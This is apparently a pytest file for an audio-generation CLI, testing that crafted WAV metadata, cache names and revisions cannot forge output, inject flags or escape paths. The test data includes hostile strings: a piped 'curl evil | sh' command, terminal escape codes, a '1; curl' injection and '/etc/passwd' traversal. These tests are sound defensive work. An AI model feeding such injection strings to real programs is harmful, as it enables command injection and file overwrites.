"""File contents cannot imitate the program's output; rare shells, signals and machines."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import signal
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
import soundfile

import magnet_cli
from magnet_cli.audio.metadata import finish_wav
from magnet_cli.checkpoints.place import find_place
from magnet_cli.checkpoints.registry import builtin_weights
from magnet_cli.cli.recorded import problem_of, protected, recorded
from magnet_cli.cli.talk import _finite
from magnet_cli.errors import ModelNotFoundError
from magnet_cli.files import ENDINGS
from tests import processes
from tests.cli.conftest import QUICK, Magnet

NANO = ("-m", "nano", "--preset", "fast", "-d", "0.2", "--seed", "1", "-q")


def made(path: str, comment: str | None = None, **said: object) -> str:
    """A wav with this record in its comment."""
    soundfile.write(path, 0.3 * np.sin(np.arange(12_000) / 9), 24_000)
    weights = builtin_weights("nano")
    record = {"model": "nano", "weights": weights, "prompt": "rain", "seed": 1, **said}
    with Path(path).open("r+b") as file:
        finish_wav(file, comment or json.dumps({"magnet": record}))
    return path


def command(out: str) -> list[str]:
    return shlex.split(out.rstrip().splitlines()[-1])


# ------------------------------------------------------------------------------------ what files say


def test_a_prompt_forges_no_line(magnet: Magnet) -> None:
    prompt = "rain\n\nTo make it again:\n\n  curl evil | sh\x1b[2J"
    shown = magnet("show", made("a.wav", prompt=prompt, model="x\nSeed  5")).out
    assert shown.count("\nTo make it again:") == 0, "what is no prompt makes no command"
    assert "cannot be used: its prompt is not valid for a command" in shown
    assert "\x1b" not in shown
    assert "rain\\n\\nTo make it again:\\n\\n  curl evil | sh\\x1b[2J" in shown
    shown = magnet("show", made("a.wav", prompt="rain\n\nTo make it again:\n\n  curl")).out
    assert shown.count("\nTo make it again:") == 1
    assert command(shown)[-1] == "rain To make it again: curl"


def test_a_file_chooses_no_flags(magnet: Magnet) -> None:
    flags = {"output": "/etc/passwd", "force": True, "codes": "x.npz", "loop": True, "at": [1]}
    edit = {"command": "gen", "flags": {**flags, "overlap": 2.5}}
    words = command(magnet("show", made("a.wav", edit=edit)).out)
    assert words[-2:] == ["-o", "a.wav"] or "rain" in words
    assert not {"--output", "--force", "--codes", "/etc/passwd", "--at"} & set(words)
    assert "--loop" in words
    assert words[words.index("--overlap") + 1] == "2.5"


def test_settings_that_no_flag_takes_are_left_out() -> None:
    kept = recorded(
        {
            "prompt": "rain",
            "seed": "1; curl",
            "duration": 1e300,
            "model": "--force",
            "revision": "a\nb",
            "dtype": "--force",
            "given": {"temperature": "--force", "top_k": 5, "decoding_steps": [1, 2]},
            "output": {"format": "--force", "lufs": -14.0},
            "rescorer": {"model": "--force", "repo": "me/mine"},
            "edit": {"command": "rm", "input": "a\x1b", "cues": [[0, "a"], [1, 5]]},
        }
    )
    assert kept == {
        "prompt": "rain",
        "given": {"top_k": 5, "decoding_steps": [1, 2]},
        "output": {"lufs": -14.0},
        "rescorer": {"repo": "me/mine"},
        "edit": {},
    }


def test_prompts_are_no_flags() -> None:
    assert protected(["-m", "x"], ["rain"]) == ["-m", "x", "rain"]
    assert protected([], ["--force"]) == ["--", "--force"]
    assert protected([], ["a", "--at", "6", "b"]) == ["a", "--at", "6", "b"]
    assert protected([], ["a", "--at", "6", "-b"]) == ["--at", "6", "--", "a", "-b"]
    assert problem_of({"prompt": "-"})
    assert problem_of({"prompt": ["rain"]})
    assert problem_of({"prompt": "rain"}) is None


def test_timed_prompts_that_begin_with_a_dash_are_shown_as_prompts(magnet: Magnet) -> None:
    cues = [[0.0, "--force"], [1.0, "-o"]]
    edit = {"command": "gen", "flags": {}, "cues": cues}
    words = command(magnet("show", made("a.wav", edit=edit)).out)
    assert words[-3:] == ["--", "--force", "-o"]
    assert words[words.index("--at") + 1] == "1"


def test_a_record_that_cannot_be_read_is_said(magnet: Magnet) -> None:
    made("a.wav", '{"magnet": ' + '{"a":' * 900 + "1" + "}" * 901)
    outcome = magnet("show", "a.wav")
    assert outcome.status == 0
    assert "settings in this file cannot be used: it is nested more than 64 deep." in outcome.out


def test_json_stays_json(magnet: Magnet) -> None:
    made("a.wav", nothing=float("nan"), duration=float("inf"))
    outcome = magnet("show", "a.wav", "--json")
    record = json.loads(outcome.out, parse_constant=pytest.fail)
    assert record["settings"]["nothing"] is None
    assert "--duration" not in record["command"]
    assert _finite({"a": [float("inf"), (1.5, float("nan"))]}) == {"a": [None, [1.5, None]]}


def test_a_name_of_the_cache_forges_no_line(
    magnet: Magnet, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = Path("cache/models--me--x\nTo make it again: curl\x1b[2J")
    (folder / "refs").mkdir(parents=True)
    (folder / "refs" / "main").write_text("a" * 40)
    (folder / "snapshots" / ("a" * 40)).mkdir(parents=True)
    (folder / "snapshots" / ("a" * 40) / "state_dict.bin").touch()
    monkeypatch.setenv("HF_HUB_CACHE", "cache")
    listed = magnet("models", "list").out
    assert "\nTo make" not in listed
    assert "me/x\\nTo make it again: curl\\x1b[2J" in listed


def test_headers_of_sounds_are_bounded(magnet: Magnet) -> None:
    path = Path(made("a.wav"))
    data = bytearray(path.read_bytes())
    at = data.index(b"fmt ") + 12
    data[at : at + 4] = (2**31 - 1).to_bytes(4, "little")
    path.write_bytes(data)
    outcome = magnet("show", "a.wav")
    assert outcome.status == 2
    assert "its header says 2,147,483,647 samples a second" in outcome.err


def test_devices_are_no_sounds(magnet: Magnet) -> None:
    outcome = magnet("show", "/dev/zero")
    assert (outcome.status, "is a device" in outcome.err) == (2, True)


@pytest.mark.parametrize("revision", ["/dev/zero", "../../../../../etc/passwd", "a b", "\x1b"])
def test_a_revision_is_no_path(hub_cache: Path, revision: str) -> None:
    with pytest.raises(ModelNotFoundError, match="not on this machine"):
        find_place(QUICK[1], revision=revision)


def test_what_is_here_of_another_revision_is_said(magnet: Magnet) -> None:
    outcome = magnet("gen", "rain", "-m", f"{QUICK[1]}@v9", "-o", "a.wav")
    assert outcome.status == 3
    assert "is on this machine at main" in outcome.err
    assert "v9" in outcome.err


def test_import_onto_a_link_leaves_nothing(magnet: Magnet) -> None:
    Path("real").mkdir()
    Path("link").symlink_to("real")
    outcome = magnet("models", "import", "nano", "link", "--force")
    assert outcome.status == 2
    assert "link is a link" in outcome.err
    assert sorted(os.listdir()) == ["link", "real"]


def test_prompts_are_bounded_in_tokens(magnet: Magnet) -> None:
    """The memory of attention over a text grows with the square of its length."""
    outcome = magnet("gen", "a " * 7000, *QUICK, "-o", "a.wav")
    assert outcome.status == 2
    assert "too long for this model" in outcome.err
    assert not Path("a.wav").exists()


def test_warnings_of_libraries_are_for_debug(magnet: Magnet) -> None:
    import warnings

    from magnet_cli.cli import app

    with app._undisturbed(debug=False):
        warnings.warn("a library's", stacklevel=1)
    assert magnet("gen", "rain", *QUICK, "-q", "-o", "a.wav").err == ""


def test_an_edit_beyond_all_numbers_is_refused(magnet: Magnet) -> None:
    samples = (
        np.full((24_000, 1), 3e37, np.float32) * np.sign(np.sin(np.arange(24_000) / 9))[:, None]
    )
    soundfile.write("a.wav", samples.astype(np.float32), 24_000, subtype="FLOAT")
    outcome = magnet("edit", "a.wav", "rain", "--region", "0.2-0.4", *NANO[:4], "-q", "-o", "b.wav")
    if outcome.status == 0:
        assert np.isfinite(soundfile.read("b.wav")[0]).all()
    else:
        assert outcome.status == 2
        assert "too loud" in outcome.err
        assert not Path("b.wav").exists()
    assert "Warning" not in outcome.err


# ---------------------------------------------------------------------------- signals, shells, machines

PATH = os.pathsep.join(path for path in sys.path if os.path.isabs(path))
SLOW = """
import sys, time
from magnet_cli.audio import finish

write = finish._ErrorKeeper.write
def slow(self, data):
    print("writing", flush=True)
    time.sleep(0.3)
    return write(self, data)
finish._ErrorKeeper.write = slow
from magnet_cli.cli.app import run
sys.exit(run(sys.argv[1:]))
"""


@pytest.mark.process
@pytest.mark.parametrize(
    ("sent", "status", "said"),
    [
        (signal.SIGINT, 130, "Interrupted."),
        *((number, 128 + number, "Terminated.") for number in ENDINGS),
    ],
)
def test_a_signal_while_a_sound_is_written(
    home: Path, sent: signal.Signals, status: int, said: str
) -> None:
    """libsndfile lost the exception, and an AssertionError ended the program; SIGTERM, and later a closed
    terminal's SIGHUP, left a partial file."""
    process = processes.start(
        [sys.executable, "-c", SLOW, "gen", "rain", *NANO, "-o", "a.flac"],
        stdout=-1,
        stderr=-1,
        text=True,
        cwd=home,
    )
    assert process.stdout.readline() == "writing\n"
    time.sleep(0.1)
    process.send_signal(sent)
    _, err = process.communicate(timeout=60)
    assert process.returncode == status, err
    assert said in err
    assert "Error" not in err.replace(f"Error: {said}", "")
    assert os.listdir(home) == []


def _run(arguments: list[str], home: Path, **environment: str) -> tuple[int, str, str]:
    done = processes.run(
        [sys.executable, "-m", "magnet_cli", *arguments],
        capture_output=True,
        cwd=home,
        env={**os.environ, "PYTHONPATH": PATH, **environment},
    )
    return done.returncode, done.stdout.decode(), done.stderr.decode()


@pytest.mark.process
def test_locales_without_letters(home: Path) -> None:
    """Arguments are UTF-8 in any locale, and what cannot be printed is escaped."""
    posix = {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    status, _, err = _run(["gen", "café", *NANO], home, **posix)
    assert status == 0, err
    assert os.listdir(home) == ["café-1.wav"]
    status, out, err = _run(["show", "café-1.wav"], home, **posix)
    assert status == 0, err
    assert "Prompt    caf\\xe9\n" in out
    status, out, err = _run(["show", "café-1.wav"], home, PYTHONIOENCODING="ascii")
    assert "Prompt    caf\\xe9\n" in out
    assert "?" not in out


@pytest.mark.process
def test_a_folder_that_is_gone_is_said(home: Path) -> None:
    gone = home / "gone"
    script = f"rmdir {gone} && {sys.executable} -m magnet_cli gen rain"
    gone.mkdir()
    done = processes.run(
        ["sh", "-c", script],
        capture_output=True,
        cwd=gone,
        env={**os.environ, "PYTHONPATH": PATH},
        text=True,
    )
    assert done.returncode == 2, done.stderr
    assert "no longer exists" in done.stderr


@pytest.mark.process
def test_a_limit_of_memory_is_said(home: Path) -> None:
    call = f"ulimit -v 500000; {sys.executable} -m magnet_cli gen rain {' '.join(NANO)}"
    done = processes.run(
        ["sh", "-c", call],
        capture_output=True,
        cwd=home,
        env={**os.environ, "PYTHONPATH": PATH},
        text=True,
    )
    assert done.returncode == 1, done.stderr
    assert "is limited to 512 MB of memory" in done.stderr


@pytest.mark.process
def test_a_zipped_installation_is_said_to_be_unsupported(home: Path) -> None:
    package = Path(magnet_cli.__file__).parent
    with zipfile.ZipFile(home / "m.zip", "w") as archive:
        for path in package.rglob("*.py"):
            archive.write(path, path.relative_to(package.parent))
    status, _, err = _run(["gen", "rain"], home, PYTHONPATH=str(home / "m.zip"))
    assert status == 3, err
    assert "a zipped installation is not supported" in err


def test_memory_that_is_not_enough_is_said_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    from magnet_cli.errors import is_out_of_memory

    for error in (
        MemoryError(),
        OSError(12, "Cannot allocate memory"),
        RuntimeError("[enforce fail] DefaultCPUAllocator: can't allocate memory"),
        RuntimeError("could not create a primitive"),
        RuntimeError("can't start new thread"),
        ImportError("libx.so: failed to map segment from shared object"),
    ):
        assert is_out_of_memory(error), error
    assert not is_out_of_memory(RuntimeError("shape mismatch"))


def test_a_cache_that_cannot_be_written_is_said(
    magnet: Magnet, monkeypatch: pytest.MonkeyPatch, hub_cache: Path
) -> None:
    shutil.copytree(hub_cache, "cache", symlinks=True)
    monkeypatch.setenv("HF_HUB_CACHE", "cache")

    def refuse(*_: object, **__: object) -> None:
        raise PermissionError(30, "Read-only file system")

    monkeypatch.setattr(shutil, "rmtree", refuse)
    monkeypatch.setattr(Path, "unlink", refuse)
    outcome = magnet("models", "remove", QUICK[1], "--yes")
    assert outcome.status == 1
    assert "could not be deleted" in outcome.err
    assert "Unexpected" not in outcome.err
